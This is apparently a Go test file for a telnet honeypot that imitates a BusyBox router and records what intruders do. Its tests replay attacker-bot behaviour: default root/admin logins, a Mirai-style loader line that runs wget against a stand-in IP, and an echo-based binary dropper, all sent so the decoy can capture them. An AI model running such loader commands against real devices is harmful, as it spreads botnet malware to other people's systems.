package telnetd

import (
	"bytes"
	"errors"
	"fmt"
	"io"
	"net"
	"os"
	"os/exec"
	"regexp"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/lapwing-defence/lapwing/internal/clock"
	"github.com/lapwing-defence/lapwing/internal/decoy"
	"github.com/lapwing-defence/lapwing/internal/decoy/access"
	"github.com/lapwing-defence/lapwing/internal/decoy/decoytest"
	"github.com/lapwing-defence/lapwing/internal/decoy/record"
	"github.com/lapwing-defence/lapwing/internal/event"
	"github.com/lapwing-defence/lapwing/internal/persona"
	"github.com/lapwing-defence/lapwing/internal/sharedtest"
)

var target = decoytest.Target{Name: "telnet", Persona: "busybox-router", LogType: LogConnection, New: func(_ testing.TB, p *persona.Persona, door *access.Door) decoy.Decoy {
	return New(Config{Issue: p.Issue, Door: door})
}}

func TestDecoy(t *testing.T) { decoytest.Run(t, target) }

// talk sends and reads until the output ends in want.
func talk(t *testing.T, c net.Conn, send, want string) string {
	t.Helper()
	if _, err := io.WriteString(c, send); err != nil {
		t.Fatal(err)
	}
	return until(t, c, want)
}

func until(t *testing.T, c io.Reader, want string) string {
	t.Helper()
	var b bytes.Buffer
	buf := make([]byte, 1)
	for !strings.HasSuffix(b.String(), want) {
		n, err := c.Read(buf)
		b.Write(buf[:n])
		if err != nil {
			t.Fatalf("%q came, then %v; %q was to come", b.String(), err, want)
		}
	}
	return b.String()
}

func field(e event.Event, name string) string {
	v, _ := e.Get(name)
	return v.Text()
}

// TestConversation is byte for byte what telnetd and login of BusyBox 1.35
// send for the same keys (recorded from Debian's busybox-static).
func TestConversation(t *testing.T) {
	clk := clock.NewManual(time.Now())
	b := target.Start(t, decoytest.Options{Clock: clk})
	host := b.Persona.Hostname
	c := b.Dial(t)
	for i, s := range []struct{ send, want string }{
		{"", "\xff\xfd\x01\xff\xfd\x1f\xff\xfb\x01\xff\xfb\x03\r\r\n" + host + " login: "},
		{"\r\n\r\n", "\r\n\r\n" + host + " login: " + host + " login: "},
		{"bad\r\n", "bad\r\nPassword: "},
		{"x\r\n", "\r\n"},
		{"advance", "Login incorrect\r\n" + host + " login: "},
		{"root\r\x00", "root\r\nPassword: "},
		{"admin\r\x00", "\r\n\r\n\r\n" + b.Persona.BusyBoxVersion() + " built-in shell (ash)\r\nEnter 'help' for a list of built-in commands.\r\n\r\n~ # "},
		{"enable\r\n", "enable\r\n-sh: enable: not found\r\n~ # "},
		{"cd /nx\r\n", "cd /nx\r\n-sh: cd: can't cd to /nx: No such file or directory\r\n~ # "},
		{"fi\r\n", "fi\r\n-sh: syntax error: unexpected \"fi\"\r\n~ # "},
		{"/etc\r\n", "/etc\r\n-sh: /etc: Permission denied\r\n~ # "},
		{">/nx/x\r\n", ">/nx/x\r\n-sh: can't create /nx/x: nonexistent directory\r\n~ # "},
		{"sh\r\n", "sh\r\n\r\n\r\n" + b.Persona.BusyBoxVersion() + " built-in shell (ash)\r\nEnter 'help' for a list of built-in commands.\r\n\r\n~ # "},
		{"/bin/busybox ECCHI\r\n", "/bin/busybox ECCHI\r\nECCHI: applet not found\r\n~ # "},
		{"echo $0 $-; echo '\ta'\r\n", "echo $0 $-; echo 'a'\r\nsh smi\r\na\r\n~ # "},
		{"printf 'a\\tb\\n'\r\n", "printf 'a\\tb\\n'\r\na       b\r\n~ # "},
		{"cd /tmp\r\n", "cd /tmp\r\n/tmp # "},
		{"exit\r\n", "exit\r\n~ # "},
		{"exit\r\n", "exit\r\n"},
	} {
		if s.send == "advance" {
			b.Wait(t, event.ActionLogin, 1)
			clk.Advance(failDelay)
			s.send = ""
		}
		if i == 7 {
			b.Wait(t, event.ActionSessionStarted, 1)
		}
		if _, err := io.WriteString(c, s.send); err != nil {
			t.Fatal(err)
		}
		got := make([]byte, len(s.want))
		n, err := io.ReadFull(c, got)
		if string(got[:n]) != s.want {
			t.Fatalf("%q gives %q (%v)\nwant %q", s.send, got[:n], err, s.want)
		}
	}
	if n, err := c.Read(make([]byte, 1)); n != 0 || !errors.Is(err, io.EOF) {
		t.Errorf("after the last exit: %d bytes, %v", n, err)
	}
	b.Wait(t, event.ActionConnectionClosed, 1)
	logins := b.Rec.Events(event.ActionLogin)
	if len(logins) != 2 || logins[0].Outcome != "failure" || logins[1].Outcome != "success" || logins[0].LogType != 6001 || field(logins[1], record.PasswordField) != "admin" {
		t.Errorf("logins %+v", logins)
	}
	id := b.Rec.Events(event.ActionClientIdentified)
	if len(id) != 1 || field(id[0], "lapwing.telnet.newline") != "crlf" || len(field(id[0], "lapwing.telnet.fingerprint")) != 16 {
		t.Errorf("client %+v", id)
	}
	var lines []string
	for _, e := range b.Rec.Events(event.ActionCommandExecuted) {
		lines = append(lines, e.CommandLine)
	}
	if got := strings.Join(lines, "|"); !strings.HasPrefix(got, "enable|cd /nx|fi|") || !strings.Contains(got, "/bin/busybox ECCHI") {
		t.Errorf("commands %s", got)
	}
	ended := b.Rec.Events(event.ActionSessionEnded)
	if cast := b.Rec.Recording(ended[0].Session); !strings.Contains(cast, `"SHELL":"/bin/sh","TERM":"vt102"`) || !strings.Contains(cast, "applet not found") {
		t.Errorf("recording %.300s", cast)
	}
}

func TestAPlantedCredentialIsRecognised(t *testing.T) {
	token := access.Token{Credential: access.Credential{User: "root", Password: "planted"}, ID: "share", Admit: true}
	b := target.Start(t, decoytest.Options{Clock: clock.NewManual(time.Now()), Policy: access.Policy{Tokens: []access.Token{token}}})
	c := b.Dial(t)
	until(t, c, " login: ")
	io.WriteString(c, "root\r\nplanted\r\n")
	b.Wait(t, event.ActionSessionStarted, 1)
	if e := b.Rec.Events(event.ActionLogin); len(e) != 1 || e[0].Outcome != "success" || field(e[0], "lapwing.token.id") != "share" {
		t.Errorf("%+v", e)
	}
}

// TestThreeTries: the third wrong password ends the connection.
func TestThreeTries(t *testing.T) {
	clk := clock.NewManual(time.Now())
	b := target.Start(t, decoytest.Options{Clock: clk})
	c := b.Dial(t)
	until(t, c, " login: ")
	for n := 1; n <= maxTries; n++ {
		talk(t, c, "root\r\n", "Password: ")
		io.WriteString(c, "wrong\r\n") // the read tells
		b.Wait(t, event.ActionLogin, n)
		clk.Advance(failDelay)
		until(t, c, "Login incorrect\r\n")
	}
	if rest, err := io.ReadAll(c); len(rest) != 0 || err != nil { // a test reads to the end
		t.Errorf("then %q, %v", rest, err)
	}
}

func TestLoginTimesOut(t *testing.T) {
	clk := clock.NewManual(time.Now())
	b := target.Start(t, decoytest.Options{Clock: clk})
	c := b.Dial(t)
	until(t, c, " login: ")
	clk.Advance(loginTime)
	until(t, c, "\r\r\nLogin timed out after 60 seconds\r\r\n")
	if n, err := c.Read(make([]byte, 1)); n != 0 || !errors.Is(err, io.EOF) {
		t.Errorf("then %d bytes, %v", n, err)
	}
}

func TestNamesThatEndIt(t *testing.T) {
	for name, send := range map[string]string{"empty": strings.Repeat("\r\n", maxEmpty), "long": strings.Repeat("A", 100) + "\r\n", "end of file": "\x04"} {
		t.Run(name, func(t *testing.T) {
			c := target.Start(t, decoytest.Options{}).Dial(t)
			until(t, c, " login: ")
			io.WriteString(c, send) // the read tells
			if _, err := io.Copy(io.Discard, c); err != nil {
				t.Error(err)
			}
		})
	}
}

// TestBotThatDoesNotWait sends all it has at once, as many loaders do.
func TestBotThatDoesNotWait(t *testing.T) {
	b := target.Start(t, decoytest.Options{})
	c := b.Dial(t)
	out := talk(t, c, "root\r\nadmin\r\nenable\r\nsystem\r\nshell\r\nsh\r\ncd /tmp; >.b && echo -ne '\\x7fELF' > up; wget http://198.51.100.7/mips; /bin/busybox MIRAI\r\n", "MIRAI: applet not found\r\n/tmp # ")
	if n := strings.Count(out, "built-in shell (ash)"); n != 2 {
		t.Errorf("%d banners in %q", n, out)
	}
	for _, want := range []string{"-sh: enable: not found", "-sh: system: not found", "-sh: shell: not found", "'mips' saved"} {
		if !strings.Contains(out, want) {
			t.Errorf("%q is missing in %q", want, out)
		}
	}
	c.Close() // the bot leaves
	b.Wait(t, event.ActionConnectionClosed, 1)
	if id := b.Rec.Events(event.ActionClientIdentified); len(id) != 1 {
		t.Errorf("client %+v", id)
	}
	if f := b.Rec.Events(event.ActionDownloadRequested); len(f) != 1 || f[0].URL != "http://198.51.100.7/mips" {
		t.Errorf("downloads %+v", f)
	}
	captured := map[string]string{}
	for _, e := range b.Rec.Events(event.ActionFileCaptured) {
		captured[e.Path] = string(b.Rec.File(e.SHA256))
	}
	if captured["/tmp/up"] != "\x7fELF" {
		t.Errorf("captured %q", captured)
	}
}

// TestDropper sends a program of 60 KiB as echo lines faster than any shell
// takes them: not one byte may be lost.
func TestDropper(t *testing.T) {
	b := target.Start(t, decoytest.Options{})
	c := b.Dial(t)
	until(t, c, " login: ")
	talk(t, c, "root\r\n", "Password: ")
	talk(t, c, "admin\r\n", "~ # ")
	want := make([]byte, 60<<10)
	for i := range want {
		want[i] = byte(i*7 + i>>8)
	}
	go func() {
		for i := 0; i < len(want); i += 128 {
			var s strings.Builder
			for _, x := range want[i:min(i+128, len(want))] {
				fmt.Fprintf(&s, "\\x%02x", x)
			}
			fmt.Fprintf(c, "/bin/busybox echo -ne '%s' >> /tmp/d\r\n", s.String()) // the check below tells
		}
		io.WriteString(c, "exit\r\n") // as above
	}()
	io.Copy(io.Discard, c) // ends with the session
	b.Wait(t, event.ActionConnectionClosed, 1)
	for _, e := range b.Rec.Events(event.ActionFileCaptured) {
		if e.Path == "/tmp/d" {
			if got := b.Rec.File(e.SHA256); !bytes.Equal(got, want) {
				t.Errorf("%d bytes came of %d, or others", len(got), len(want))
			}
			return
		}
	}
	t.Error("nothing was captured")
}

// TestTerminalPrograms: vi writes a file, top ends on q, passwd sets a password
// that opens the door from then on, reboot ends the connection.
func TestTerminalPrograms(t *testing.T) {
	b := target.Start(t, decoytest.Options{})
	c := b.Dial(t)
	until(t, c, " login: ")
	talk(t, c, "root\r\n", "Password: ")
	talk(t, c, "admin\r\n", "~ # ")
	talk(t, c, "vi /tmp/n\r\n", "\x1b[1;1H")
	talk(t, c, "ihello\rworld\x1b:wq\r\n", "~ # ")
	if out := talk(t, c, "cat /tmp/n\r\n", "~ # "); !strings.Contains(out, "hello\r\nworld\r\n") {
		t.Errorf("vi left %q", out)
	}
	talk(t, c, "top\r\n", "getty -L")
	talk(t, c, "q", "~ # ")
	talk(t, c, "passwd\r\n", "New password: ")
	talk(t, c, "Sommer-27\r\n", "Retype password: ")
	talk(t, c, "Sommer-27\r\n", "passwd: password for root changed by root\r\n~ # ")
	if e := b.Wait(t, event.ActionPasswordChanged, 1)[0]; field(e, record.PasswordField) != "Sommer-27" {
		t.Errorf("event %+v", e)
	}
	talk(t, c, "reboot\r\n", "~ # ")
	if _, err := io.Copy(io.Discard, c); err != nil {
		t.Errorf("after the reboot: %v", err)
	}
	c = b.Dial(t)
	until(t, c, " login: ")
	talk(t, c, "root\r\n", "Password: ")
	talk(t, c, "Sommer-27\r\n", "~ # ")
	if out := talk(t, c, "cat /tmp/n\r\n", "~ # "); !strings.Contains(out, "hello") {
		t.Errorf("his file is gone: %q", out)
	}
}

// TestWindow: the size that the client tells is the recording's.
func TestWindow(t *testing.T) {
	b := target.Start(t, decoytest.Options{})
	c := b.Dial(t)
	until(t, c, " login: ")
	talk(t, c, "\xff\xfb\x1f\xff\xfa\x1f\x00\x84\x00\x32\xff\xf0root\r\n", "Password: ")
	talk(t, c, "admin\r\n", "~ # ")
	talk(t, c, "exit\r\n", "exit\r\n")
	s := b.Wait(t, event.ActionSessionEnded, 1)[0]
	if cast := b.Rec.Recording(s.Session); !strings.HasPrefix(cast, `{"version":2,"width":132,"height":50,`) {
		t.Errorf("recording %.100s", cast)
	}
	id := b.Rec.Events(event.ActionClientIdentified)[0]
	if got := field(id, "lapwing.telnet.options"); got != "will naws, sb naws" {
		t.Errorf("options %q", got)
	}
}

// TestFlood: a line without an end, and commands without an end, cost nothing
// but the visitor's own session.
func TestFlood(t *testing.T) {
	size := 4 << 20
	if os.Getenv("LAPWING_SOAK") == "1" {
		size = 1 << 30
	}
	for name, piece := range map[string]string{"one line": "A", "commands": "\xff\xfd\x01", "windows": "\xff\xfa\x1f\x00\x50\x00\x18\xff\xf0", "tabs": "\t", "interrupts": "\x03"} {
		t.Run(name, func(t *testing.T) {
			b := target.Start(t, decoytest.Options{})
			c := b.Dial(t)
			until(t, c, " login: ")
			talk(t, c, "root\r\n", "Password: ")
			talk(t, c, "admin\r\n", "~ # ")
			go io.Copy(io.Discard, c)                      // until it is closed
			c.SetDeadline(time.Now().Add(5 * time.Minute)) // a test that hangs fails
			chunk := []byte(strings.Repeat(piece, 64<<10/len(piece)))
			for sent := 0; sent < size; sent += len(chunk) {
				if _, err := c.Write(chunk); err != nil {
					break // the session's budget is used up
				}
			}
			c.Close() // the visitor leaves
			b.Wait(t, event.ActionConnectionClosed, 1)
			if len(b.Rec.Events(event.ActionSessionEnded)) != 1 {
				t.Error("the session did not end")
			}
		})
	}
}

// TestFloodBeforeLogin: who sends a quarter of a megabyte and never a name is sent away.
func TestFloodBeforeLogin(t *testing.T) {
	b := target.Start(t, decoytest.Options{})
	c := b.Dial(t)
	go io.Copy(io.Discard, c)                 // until it is closed
	c.Write(bytes.Repeat([]byte("B"), 1<<20)) // it ends before
	if e := b.Wait(t, event.ActionProtocolError, 1)[0]; e.Reason != errFlood.Error() {
		t.Errorf("reason %q", e.Reason)
	}
	b.Wait(t, event.ActionConnectionClosed, 1)
}

// TestTelnetClient logs in with the telnet program of inetutils.
func TestTelnetClient(t *testing.T) {
	path := sharedtest.Program(t, "telnet")
	b := target.Start(t, decoytest.Options{})
	host, port, _ := net.SplitHostPort(b.Addr)
	cmd := exec.CommandContext(t.Context(), path, host, port)
	in, err := cmd.StdinPipe()
	if err != nil {
		t.Fatal(err)
	}
	out := &screen{}
	cmd.Stdout, cmd.Stderr = out, out
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	for _, s := range []struct{ wait, send string }{
		{" login: $", "root\n"}, {"Password: $", "admin\n"}, {"~ # $", "cat /proc/version; echo $((6*7))\n"}, {`Linux version 5\.[^#]*#0[^\n]*\n42\r?\n~ # $`, "exit\n"},
	} {
		out.wait(t, s.wait)
		io.WriteString(in, s.send) // the next wait tells
	}
	out.wait(t, "Connection closed by foreign host")
	cmd.Wait() // telnet ends with 1
	id := b.Wait(t, event.ActionClientIdentified, 1)[0]
	if got := field(id, "lapwing.telnet.options"); !strings.Contains(got, "do sga") {
		t.Errorf("options %q", got)
	}
}

// screen is what a program shows.
type screen struct {
	mu sync.Mutex
	b  bytes.Buffer
}

func (s *screen) Write(b []byte) (int, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.b.Write(b)
}

func (s *screen) wait(t *testing.T, pattern string) {
	t.Helper()
	re := regexp.MustCompile(pattern)
	for range 2000 {
		s.mu.Lock()
		text := s.b.String()
		s.mu.Unlock()
		if re.MatchString(text) {
			return
		}
		time.Sleep(10 * time.Millisecond) // a test waits for another program
	}
	t.Fatalf("%q does not come; the screen shows %q", pattern, s.b.String())
}
